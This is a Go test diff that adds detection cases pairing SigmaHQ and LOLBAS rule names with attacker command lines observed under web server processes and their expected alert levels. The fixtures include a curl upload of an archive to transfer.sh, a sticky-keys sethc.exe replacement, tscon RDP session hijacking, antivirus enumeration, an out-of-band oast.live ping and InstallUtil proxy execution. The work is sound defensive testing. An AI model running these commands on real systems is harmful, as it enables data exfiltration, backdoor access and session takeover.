@@ -141,6 +141,14 @@ const (
 func TestBehaviour(t *testing.T) {
 	high, critical := rules.LevelHigh, rules.LevelCritical
 	checkLevels(t, []levelCase{
+		{"SigmaHQ proc_creation_win_curl_upload_file_sharing_websites", "iis", []string{`cmd.exe /c curl -T D:\b.zip https://transfer.sh/b.zip`}, high},
+		{"SigmaHQ proc_creation_win_cmd_sticky_keys_replace", "iis", []string{`cmd.exe /c copy /y C:\windows\system32\cmd.exe C:\windows\system32\sethc.exe`}, high},
+		{"SigmaHQ proc_creation_win_tscon_rdp_session_hijacking", "iis", []string{`cmd.exe /c tscon 2 /dest:console`}, critical},
+		{"SigmaHQ proc_creation_win_wmic_recon_product_class", "iis", []string{`cmd.exe /c wmic /namespace:\\root\securitycenter2 path antivirusproduct get displayname`}, high},
+		{"SigmaHQ net_dns_external_service_interaction_domains", "tomcat", []string{`ping -n 1 x7f.oast.live`}, high},
+		{lolbas, "iis", []string{`C:\Windows\Microsoft.NET\Framework64\v4.0.30319\InstallUtil.exe /U D:\x\a.dll`}, high},
+		{lolbas, "jenkins", []string{`C:\Windows\Microsoft.NET\Framework64\v4.0.30319\InstallUtil.exe D:\ws\Service.exe`}, rules.LevelMedium},
+		{"SigmaHQ proc_creation_win_curl_fileupload, its filter", "iis", []string{`cmd.exe /c curl -F "f=@D:\a.csv" http://127.0.0.1:8080/in`}, rules.LevelMedium},
 		{sigmaRecon, "iis", []string{`cmd.exe /c whoami`}, high},
 		{sigmaRecon, "tomcat", []string{`cmd /c whoami /all > C:\x\o.txt`}, high},
 		{sigmaRecon, "next", []string{`C:\Windows\system32\cmd.exe /d /s /c "whoami"`}, high},
